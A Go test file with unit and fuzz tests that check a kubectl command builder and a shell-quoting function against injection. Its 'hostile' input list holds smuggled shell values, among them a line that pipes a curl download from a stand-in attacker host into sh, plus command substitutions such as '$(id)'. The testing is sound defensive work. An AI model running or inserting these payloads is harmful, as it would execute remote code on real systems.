package event

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
)

// hostile are texts that a shell would do something with.
var hostile = []string{"", " ", "x; curl -s http://evil.example|sh; echo ", "$(id)", "`id`", "a b", "-n", "--all", "x'y", `x"y`, `x\y`, "x\ny", "x\r", "x&y", "x>y", "*", "~", "#x", "!x", "{a,b}", "X", "ä", "x\x00y", strings.Repeat("x", 254)}

// shell gives the words of a command as a POSIX shell takes them, without running it.
func shell(t *testing.T, command string) []string {
	t.Helper()
	out, err := exec.Command("sh", "-c", `printf '%s\0' `+command).Output()
	if err != nil {
		t.Fatalf("%q: %v", command, err)
	}
	return strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
}

func TestKubectl(t *testing.T) {
	for _, c := range []struct {
		got, want string
	}{
		{Kubectl("prod", "describe job %s", "migrate"), "kubectl -n prod describe job migrate"},
		{Kubectl("", "describe node %s", "ip-10-0-0-1.ec2.internal"), "kubectl describe node ip-10-0-0-1.ec2.internal"},
		{Kubectl("prod", "logs %s -c %s", "a-b", "main"), "kubectl -n prod logs a-b -c main"},
		{Kubectl("prod", "get pods"), "kubectl -n prod get pods"},
		{See("Look", Kubectl("prod", "describe job %s", "x;y")), "Look"},
		{See("Look", "kubectl get nodes"), "Look: kubectl get nodes"},
		{In("Create it", Kubectl("x y", "create secret generic %s", "a")), "Create it"},
		{In("Create it", "kubectl get nodes"), "Create it (kubectl get nodes)"},
	} {
		if c.got != c.want {
			t.Errorf("got %q, want %q", c.got, c.want)
		}
	}
	for _, text := range hostile {
		if text != "" && Kubectl(text, "get pods") != "" {
			t.Errorf("%q is taken for a namespace", text)
		}
		if command := Kubectl("prod", "describe job %s", text); command != "" {
			t.Errorf("%q is taken for a name: %s", text, command)
		}
	}
}

// FuzzKubectl: a command has exactly the words that it was made of, or there is none.
func FuzzKubectl(f *testing.F) {
	for _, text := range append(hostile, "a", "a.b-c") {
		f.Add(text, "prod")
		f.Add("migrate", text)
	}
	f.Fuzz(func(t *testing.T, name, namespace string) {
		command := Kubectl(namespace, "create secret generic %s --from-file=FILE", name)
		if command == "" {
			if IsName(name) && (namespace == "" || IsName(namespace)) {
				t.Errorf("no command for %q in %q", name, namespace)
			}
			return
		}
		want := []string{"kubectl", "-n", namespace, "create", "secret", "generic", name, "--from-file=FILE"}
		if namespace == "" {
			want = slices.Delete(want, 1, 3)
		}
		if got := shell(t, command); !slices.Equal(got, want) {
			t.Errorf("%q has the words %q, want %q", command, got, want)
		}
	})
}

// FuzzShellWord: a shell gives the text back.
func FuzzShellWord(f *testing.F) {
	for _, text := range append(hostile, "system:serviceaccount:ci:deployer", "me@example.com") {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if strings.Contains(text, "\x00") {
			return // no argument can hold it
		}
		if got := shell(t, ShellWord(text)); len(got) != 1 || got[0] != text {
			t.Errorf("%q comes back as %q", text, got)
		}
	})
}
